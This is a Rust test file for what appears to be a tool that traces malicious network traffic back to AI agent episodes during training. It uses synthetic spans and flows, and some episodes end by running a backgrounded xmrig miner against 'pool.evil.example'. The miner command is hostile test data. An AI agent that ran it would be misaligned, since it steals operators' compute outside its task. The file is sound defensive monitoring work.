#![allow(clippy::unwrap_used, reason = "a test may fail by panicking")]

use std::path::Path;

use event::Timestamp;
use intake::{Origin, Stamp};
use trace::{Span, SpanKind};

use super::*;
use crate::attribution::{Skew, attribute};
use crate::classify::classify;
use crate::hosts::Hosts;
use crate::incident::Builder;
use crate::report::gather::{Told, report};
use crate::report::model::{Factor, Report};

const SECOND: i64 = 1_000_000_000;
/// 2026-03-01T00:00:00Z.
const DAY: i64 = 1_772_323_200 * SECOND;
const MINER: &str = "nohup ./xmrig -o pool.evil.example:3333 --donate-level 1 &";

fn at(millis: i64) -> Stamp {
    Stamp::exact(DAY + millis * (SECOND / 1000))
}

fn origin() -> Origin {
    Origin::new(Path::new("x").into(), 7)
}

fn span(run: usize, order: u64, millis: i64, command: &str) -> Span {
    let mut span = Span::new(format!("ep-{run}"), SpanKind::Call, origin());
    span.order = order;
    span.command = Some(command.into());
    span.tool = Some("bash".into());
    span.task = Some(format!("task-{}", run % 4));
    span.training_step = Some(run as u64 / 4);
    span.tool_call_id = Some(format!("call_{run}_{order}"));
    span.start = Some(trace::Moment::new(at(millis), trace::Means::CommandStarted));
    span.end = Some(trace::Moment::new(at(millis + 9_000), trace::Means::CommandEnded));
    span
}

fn flow(run: usize, millis: i64, to: &str, name: Option<&str>, port: u16) -> flows::Flow {
    let time = flows::Moment::new(at(millis), flows::Means::Began);
    let mut flow = flows::Flow::new(flows::FlowKind::Flow, time, origin());
    flow.source = format!("10.0.0.{run}").parse().ok();
    flow.destination = to.parse().ok();
    flow.destination_port = Some(port);
    flow.destination_name = name.map(Into::into);
    flow
}

/// Episodes install, test, and look around; one of each four of the later half mines. Each has an address of its own.
fn incident() -> Incident {
    let table: String = (1..=40).map(|run| format!("10.0.0.{run},ep-{run}\n")).collect();
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("hosts.csv");
    std::fs::write(&file, format!("address,run\n{table}")).unwrap();
    let mut builder = Builder::new(Hosts::read([&file], &intake::Clock::default()).unwrap().0);
    for run in 1..=40_usize {
        let begin = run as i64 * 97_300;
        let mines = run > 20 && run % 4 == 3;
        let last = if mines { MINER } else { "cat README.md" };
        for (order, command) in ["ls", "pip install numpy", "pytest -q", last].into_iter().enumerate() {
            builder.span(
                trace::Format::Commands,
                span(run, order as u64, begin + order as i64 * 11_700, command),
            );
        }
        let install = begin + 11_700 + 400 + run as i64 * 7;
        builder.flow(flows::Format::Eve, flow(run, install, "151.101.0.223", Some("pypi.org"), 443)).unwrap();
        if mines {
            for attempt in 0..3 {
                let time = begin + 3 * 11_700 + 600 + attempt * 2_000;
                builder
                    .flow(flows::Format::Eve, flow(run, time, "203.0.113.7", Some("pool.evil.example"), 3333))
                    .unwrap();
            }
        }
    }
    // Nobody knows whose that is.
    builder.flow(flows::Format::Eve, flow(99, 5_000, "203.0.113.7", None, 3333)).unwrap();
    let mut incident = builder.build().unwrap();
    classify(&mut incident).unwrap();
    incident
}

fn found() -> Report {
    let incident = incident();
    let attribution = attribute(&incident, Skew::Told(0)).unwrap();
    let told = Told { title: "x".into(), made_at: Timestamp::from_nanos(DAY), inputs: Vec::new() };
    report(told, &incident, &attribution).unwrap()
}

#[test]
fn what_draws_it_is_found_and_what_all_have_is_not_tested() {
    let report = found();
    let of = |factor, value: &str| {
        report.behaviour.iter().find(|each| each.factor == factor && each.value == value)
    };
    let task = of(Factor::Task, "task-3").unwrap();
    assert!(task.q < 0.05 && task.odds_ratio > 1.0 && task.interval.0 > 1.0, "{task:?}");
    assert!((task.observed - 5.0).abs() < 0.3 && (task.expected - 1.25).abs() < 0.1, "{task:?}");
    assert!(of(Factor::Tool, "bash").is_none(), "all calls have it");
    // A tool, 5 kinds of command, 4 tasks and 11 steps, with the one class: none is passed over in silence.
    assert_eq!(report.behaviour.len() as u64 + report.behaviour_untestable, 1 + 5 + 4 + 11);
    let page = crate::report::html(&report);
    assert!(page.contains(&format!("{} pairs more were too rare", report.behaviour_untestable)));
    let kind = report.behaviour.iter().find(|each| each.factor == Factor::CommandKind).unwrap();
    assert!(kind.p < 1e-6 && (kind.observed - 5.0).abs() < 0.3, "{kind:?}");
    assert!(report.behaviour.is_sorted_by_key(|each| each.q));
    assert_eq!(report.hours[0].p, None, "five episodes are too few");
}

#[test]
fn the_report_has_the_miners_first_and_the_page_shows_them() {
    let report = found();
    assert_eq!((report.totals.malicious_flows, report.totals.culprits), (16, 5));
    assert!(report.culprits.iter().all(|culprit| culprit.command.as_deref() == Some(MINER)));
    let page = crate::report::html(&report);
    assert!(page.contains("./xmrig -o pool.evil.example:3333"));
    assert!(page.contains("task-3"));
}

#[test]
fn nothing_read_goes_together_with_nothing() {
    let incident = Incident::default();
    let found = attribute(&incident, Skew::Auto).unwrap();
    let found = associations(&incident, &found.timeline, Tallies::default());
    assert_eq!(found, Associations::default());
}
